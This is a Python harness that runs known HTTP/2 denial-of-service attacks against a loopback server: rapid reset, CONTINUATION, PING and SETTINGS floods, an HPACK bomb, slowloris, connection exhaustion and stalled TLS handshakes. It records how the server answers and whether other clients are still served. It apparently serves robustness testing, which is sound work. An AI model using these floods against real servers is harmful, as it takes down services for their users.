"""Known HTTP/2 attacks against a server on loopback, one per run, each bounded in count and time.
Prints one JSON object: what the server answered (GOAWAY code, RST_STREAM codes, whether and when
it closed the connection) and, where asked, how long a well-behaved client took to be served
while the attack was going on.

Usage: attack.py NAME PORT [--good] [--tls] [--panel] [--KEY=N ...]      (NAME: see ATTACKS below)

--tls runs every attack over TLS with ALPN h2 (certificates not verified); the TLS-only attacks
(stop_reading, half_record, no_handshake) need it. --panel makes the well-behaved client ask for the
panel's login page instead of the demo site's /json.
"""
import json
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def request(encoder, stream, path="/html", method="GET", extra=(), end_stream=True):
    block = encoder.encode([(":method", method), (":scheme", "http"), (":authority", "attack"), (":path", path)] + list(extra))
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)


TLS = "--tls" in sys.argv
PANEL = "--panel" in sys.argv


_CONTEXT = []


def tls_context():
    if _CONTEXT:
        return _CONTEXT[0]
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    _CONTEXT.append(context)
    return context


def connect(port, timeout=10, receive_buffer=None):
    """A connection to the server: TCP, or TLS with ALPN h2 (the handshake done) under --tls. A
    `receive_buffer` (octets) is set before connecting, so that the TCP window stays that small."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.settimeout(timeout)
    sock.connect(("127.0.0.1", port))
    return tls_context().wrap_socket(sock, server_hostname="localhost") if TLS else sock


def readable(sock, seconds):
    """Whether a read would not block: OpenSSL may hold decrypted octets that select cannot see."""
    if hasattr(sock, "pending") and sock.pending():
        return True
    ready, _, _ = select.select([sock], [], [], max(0, seconds))
    return bool(ready)


class Peer:
    """A raw connection: sends bytes, and reads and parses whatever the server sends."""

    def __init__(self, port, preface=True, window=None, receive_buffer=None):
        self.sock = connect(port, receive_buffer=receive_buffer)
        self.buffer = b""
        self.goaway = None
        self.resets = []
        self.closed_at = None
        self.frames = 0
        self.started = time.monotonic()
        if preface:
            pairs = [(4, window)] if window is not None else []
            self.sock.sendall(PREFACE + settings(pairs))

    def send(self, data):
        """Sends; False once the server has closed or stopped reading for good."""
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            return False

    def read(self, seconds):
        """Reads what arrives within `seconds`, stopping early at end of stream."""
        deadline = time.monotonic() + seconds
        while self.closed_at is None:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            if not readable(self.sock, left):
                return
            try:
                chunk = self.sock.recv(1 << 16)
            except ssl.SSLWantReadError:
                continue
            except (ConnectionResetError, OSError):
                chunk = b""
            if not chunk:
                self.closed_at = time.monotonic() - self.started
                return
            self.buffer += chunk
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, stream = self.buffer[3], int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            self.frames += 1
            if kind == GOAWAY and self.goaway is None:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"code": ERRORS.get(code, code), "last_stream": last & 0x7FFFFFFF,
                               "debug": payload[8:].decode("utf-8", "replace"), "at": round(time.monotonic() - self.started, 2)}
            elif kind == RST_STREAM:
                self.resets.append(ERRORS.get(struct.unpack(">I", payload)[0], "?"))

    def result(self):
        return {"goaway": self.goaway, "resets": len(self.resets), "reset_codes": sorted(set(self.resets)),
                "closed": self.closed_at is not None, "closed_at": None if self.closed_at is None else round(self.closed_at, 2)}


def good_client(port):
    """A well-behaved client (Python h2): GET /json (the panel: its login page); seconds until the
    whole response, or None."""
    start = time.monotonic()
    path, needle = ("/login", b"csrf") if PANEL else ("/json", b"9113")
    try:
        sock = connect(port)
        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.send_headers(1, [(":method", "GET"), (":scheme", "https" if TLS else "http"), (":authority", "good"), (":path", path)],
                          end_stream=True)
        sock.sendall(conn.data_to_send())
        body = b""
        while True:
            data = sock.recv(65536)
            if not data:
                return None
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.DataReceived):
                    body += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if isinstance(event, h2.events.StreamEnded) and needle in body:
                    sock.close()
                    return round(time.monotonic() - start, 3)
            sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        return None


def rapid_reset(port):
    peer, encoder = Peer(port), Encoder()
    sent = 0
    for i in range(3000):
        stream = 2 * i + 1
        if not peer.send(request(encoder, stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
            break
        sent += 1
        if i % 100 == 0:
            peer.read(0)
    peer.read(5)
    return dict(peer.result(), streams_sent=sent)


def continuation_flood(port):
    peer, encoder = Peer(port), Encoder()
    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "attack"), (":path", "/html")])
    peer.send(frame(HEADERS, END_STREAM, 1, block))
    sent = 0
    junk = frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3276)  # 16 380 octets of literal fields
    while sent < 20_000_000 and peer.goaway is None and peer.closed_at is None:
        if not peer.send(junk):
            break
        sent += len(junk)
        peer.read(0)
    peer.read(5)
    return dict(peer.result(), octets_sent=sent)


def unread_flood(port, make_batch, count):
    """Sends `count` frames, 1 000 at a time (`make_batch(n)` gives the n-th batch), each asking for
    an answer, never reading one. The client's receive buffer is small (16 KiB), as a client that
    never reads soon has a full one: otherwise loopback's buffers (megabytes) can hold every answer
    of a flood sent slowly on a loaded machine, and the server, never stalled, rightly keeps going."""
    peer = Peer(port, receive_buffer=16384)
    peer.sock.settimeout(30)
    sent = 0
    start = time.monotonic()
    while sent < count:
        if not peer.send(make_batch(sent // 1000)):
            break
        sent += 1000
    stalled = round(time.monotonic() - start, 2)
    # Still not reading for a while after the last frame: a flood sent slowly (Python encodes each
    # request) may only outgrow the buffers near its end, and reading at once would end the stall
    # before the server's idle timeout (2 s in the tests) could see it.
    time.sleep(5)
    peer.read(15)
    return dict(peer.result(), frames_sent=sent, sending_took=stalled)


def ping_flood(port):
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    return unread_flood(port, lambda n: batch, 2_000_000)


def settings_flood(port):
    batch = settings([(3, 100)]) * 1000
    return unread_flood(port, lambda n: batch, 2_000_000)


def reset_flood(port):
    encoder = Encoder()
    # Each stream is malformed (an uppercase field name, RFC 9113 §8.2.1): the server must answer
    # RST_STREAM PROTOCOL_ERROR.
    return unread_flood(port, lambda n: b"".join(
        request(encoder, 2 * (1000 * n + i) + 1, extra=[("X-Upper", "1")]) for i in range(1000)), 500_000)


def empty_frames(port):
    peer, encoder = Peer(port), Encoder()
    peer.send(request(encoder, 1, path="/upload", method="POST", end_stream=False))
    sent = 0
    for _ in range(20):
        if not peer.send(frame(DATA, 0, 1) * 500):
            break
        sent += 500
        peer.read(0.05)
        if peer.goaway:
            break
    peer.read(5)
    return dict(peer.result(), frames_sent=sent)


def zero_length_headers(port):
    peer, encoder = Peer(port), Encoder()
    peer.send(request(encoder, 1, extra=[("", "empty name")]))
    peer.send(request(encoder, 3, extra=[("x-empty", "")]))
    peer.read(2)
    # The empty value is allowed (§8.2.1); the empty name is not: stream 1 reset, stream 3 answered.
    answered = peer.frames
    return dict(peer.result(), frames_received=answered)


def window_of_one(port):
    peer, encoder = Peer(port, window=1), Encoder()
    for i in range(100):
        peer.send(request(encoder, 2 * i + 1))
    peer.read(1)
    alive_after_1s = peer.closed_at is None
    # Dribble: one octet of window every 0.2 s on stream 1 for a while, then nothing at all.
    for _ in range(10):
        peer.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
        peer.read(0.2)
    peer.read(10)
    return dict(peer.result(), alive_after_1s=alive_after_1s)


def hpack_bomb(port):
    peer = Peer(port)
    big = "a" * 4000
    # One big literal with incremental indexing (into the table as 62), then a block that refers to
    # it 1 000 times: 4 MB of header list from a 1-kilobyte block.
    name = b"x-bomb"
    value = big.encode()
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
    encoder = Encoder()
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/json")]) + literal))
    bomb = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/json")])
    bomb += b"\xbe" * 1000  # indexed 62, 1 000 times
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
    peer.read(3)
    return peer.result()


def encode_int(value):
    out = b""
    while value >= 128:
        out += bytes([(value & 0x7F) | 0x80])
        value >>= 7
    return out + bytes([value])


def slowloris(port):
    """Three slow clients: silent, a preface one octet at a time, a header block never finished."""
    silent = Peer(port, preface=False)
    dribble = Peer(port, preface=False)
    unfinished = Peer(port)
    encoder = Encoder()
    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "slow"), (":path", "/html")])
    unfinished.send(frame(HEADERS, END_STREAM, 1, block))
    start = time.monotonic()
    i = 0
    while time.monotonic() - start < 12:
        if i < len(PREFACE):
            dribble.send(PREFACE[i:i + 1])
        unfinished.send(frame(CONTINUATION, 0, 1, b""))  # an empty fragment: no progress
        i += 1
        for peer in (silent, dribble, unfinished):
            peer.read(0.05)
        time.sleep(0.4)
        if all(p.closed_at is not None for p in (silent, dribble, unfinished)):
            break
    return {"silent": silent.result(), "dribble": dribble.result(), "unfinished": unfinished.result()}


def many_connections(port, count=10_000):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 200), hard))
    socks, failed = [], 0
    start = time.monotonic()
    for _ in range(count):
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", port))
            socks.append(s)
        except OSError:
            failed += 1
    opened = round(time.monotonic() - start, 2)
    time.sleep(1)
    during = good_client(port)
    for s in socks:
        s.close()
    time.sleep(0.5)
    after = good_client(port)
    return {"opened": len(socks), "failed": failed, "opening_took": opened, "good_client_during": during,
            "good_client_after": after}


def wait_closed(sock, start, limit=20):
    """Reads (and drops) whatever the server sends until it closes: seconds since `start`, or None
    if it was still open after `limit` seconds."""
    sock.settimeout(0.5)
    while time.monotonic() - start < limit:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return round(time.monotonic() - start, 2)
        if not chunk:
            return round(time.monotonic() - start, 2)
    return None


def memory_tls(raw):
    """A TLS client over `raw` driven through memory buffers, so a test can stop anywhere: returns
    (tls object, its outgoing buffer, its incoming buffer)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    return tls_context().wrap_bio(incoming, outgoing, server_hostname="localhost"), outgoing, incoming


def finish_handshake(raw, tls, outgoing, incoming):
    while True:
        try:
            tls.do_handshake()
            raw.sendall(outgoing.read())
            return
        except ssl.SSLWantReadError:
            raw.sendall(outgoing.read())
            data = raw.recv(65536)
            if not data:
                raise OSError("closed during the handshake")
            incoming.write(data)


def stop_reading(port, count=16, path="/big.bin"):
    """A client that gives all the window it can, asks for `count` large responses, reads a little of
    them and then stops reading mid-response: the server's writes stall (over TLS: OpenSSL says
    WANT_WRITE). It must close the connection within the idle timeout of the stall, and serve a
    well-behaved client meanwhile."""
    peer, encoder = Peer(port, window=(1 << 31) - 1), Encoder()
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
    for i in range(count):
        peer.send(request(encoder, 2 * i + 1, path=path))
    peer.read(0.3)
    got = peer.frames
    start = time.monotonic()
    time.sleep(1)
    during = good_client(port)
    # Nothing read for a while: then drain, to see whether (and roughly when) the server closed.
    time.sleep(5)
    closed_at = wait_closed(peer.sock, start, limit=8)
    return {"frames_before_stall": got, "good_client_during": during, "closed": closed_at is not None, "closed_by": closed_at}


def half_record(port):
    """TLS: a whole handshake, then half of the record carrying the preface, then silence. The server
    must not wait for the rest for longer than the idle timeout, and must serve others meanwhile."""
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    tls, outgoing, incoming = memory_tls(raw)
    finish_handshake(raw, tls, outgoing, incoming)
    tls.write(PREFACE + settings())
    record = outgoing.read()
    raw.sendall(record[:len(record) // 2])
    start = time.monotonic()
    time.sleep(0.5)
    during = good_client(port)
    closed_at = wait_closed(raw, start)
    return {"record_octets": len(record), "good_client_during": during, "closed": closed_at is not None, "closed_at": closed_at}


def no_handshake(port, count=50):
    """TLS handshakes never finished, `count` of each kind at once: silent after the TCP handshake,
    half a ClientHello, a whole ClientHello and nothing after the server's answer. Each must be
    closed within the idle timeout (the threaded server's handshake deadline, the event loop's
    sweep), and a well-behaved client served meanwhile."""
    kinds = {"silent": [], "half_hello": [], "hello_only": []}
    start = time.monotonic()
    for _ in range(count):
        for kind, socks in kinds.items():
            raw = socket.create_connection(("127.0.0.1", port), timeout=10)
            if kind != "silent":
                tls, outgoing, _ = memory_tls(raw)
                try:
                    tls.do_handshake()
                except ssl.SSLWantReadError:
                    pass
                hello = outgoing.read()
                raw.sendall(hello[:len(hello) // 2] if kind == "half_hello" else hello)
            socks.append(raw)
    opened = round(time.monotonic() - start, 2)
    during = good_client(port)
    result = {"opened": opened, "good_client_during": during}
    for kind, socks in kinds.items():
        times = [wait_closed(sock, start) for sock in socks]
        closed = [t for t in times if t is not None]
        result[kind] = {"closed": len(closed), "of": len(socks), "last_closed_at": max(closed) if closed else None}
        for sock in socks:
            sock.close()
    return result


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


def curl_time(port, tls=False):
    """Seconds curl took for GET /json (its own time_total), or None if it was not served."""
    url = f"{'https' if tls else 'http'}://127.0.0.1:{port}/json"
    flags = ["--http2", "-k"] if tls else ["--http2-prior-knowledge"]
    done = subprocess.run(["curl", "-s", "-o", "/dev/null", "--max-time", "10", "-w", "%{http_code} %{time_total}"] + flags + [url],
                          capture_output=True, text=True)
    code, _, seconds = done.stdout.partition(" ")
    return round(float(seconds), 4) if code == "200" else None


def idle_hold(port, count=10_000, server_pid=None):
    """`count` idle HTTP/2 connections (preface and SETTINGS sent, then nothing), then a new client
    (curl, and Python h2) while they are held: how long it took, what each idle connection costs the
    server, and how many idle ones the server closed to make room (GOAWAY NO_ERROR first)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 200), hard))
    warm = curl_time(port)  # the server's first request pays for loading its pages: not what is measured here
    before = rss_kib(server_pid) if server_pid else None
    socks, failed = [], 0
    start = time.monotonic()
    for _ in range(count):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
            s.sendall(PREFACE + settings())
            socks.append(s)
        except OSError:
            failed += 1
    opened = round(time.monotonic() - start, 2)
    time.sleep(2)
    after = rss_kib(server_pid) if server_pid else None
    curl = curl_time(port)
    good = good_client(port)
    # Which idle connections did the server close, and did each get GOAWAY NO_ERROR first? (Each
    # holds the server's SETTINGS anyway: what matters is a GOAWAY and the end of the stream.)
    time.sleep(0.5)
    closed = goaway_no_error = 0
    for s in socks:
        s.setblocking(False)
        data, ended = b"", False
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    ended = True
                    break
                data += chunk
        except BlockingIOError:
            pass
        except OSError:
            ended = True
        closed += ended
        i = 0
        while i + 9 <= len(data):
            length = int.from_bytes(data[i:i + 3], "big")
            if data[i + 3] == GOAWAY and data[i + 13:i + 17] == b"\0\0\0\0":
                goaway_no_error += 1
                break
            i += 9 + length
    for s in socks:
        s.close()
    per = round((after - before) / max(1, len(socks)), 2) if before and after else None
    return {"opened": len(socks), "failed": failed, "opening_took": opened, "curl_first": warm, "curl_during": curl, "good_client_during": good,
            "rss_before_kib": before, "rss_held_kib": after, "kib_per_connection": per, "closed_by_server": closed,
            "goaway_no_error": goaway_no_error}


ATTACKS = {name: fn for name, fn in globals().items() if callable(fn) and name in (
    "rapid_reset", "continuation_flood", "ping_flood", "settings_flood", "reset_flood", "empty_frames",
    "zero_length_headers", "window_of_one", "hpack_bomb", "slowloris", "many_connections", "idle_hold", "stop_reading",
    "half_record", "no_handshake")}

if __name__ == "__main__":
    name, port = sys.argv[1], int(sys.argv[2])
    options = dict(arg[2:].split("=", 1) for arg in sys.argv[3:] if arg.startswith("--") and "=" in arg)
    result = ATTACKS[name](port, **{key: int(value) if value.isdigit() else value for key, value in options.items()})
    if "--good" in sys.argv:
        result["good_client_after"] = good_client(port)
    print(json.dumps(result), flush=True)
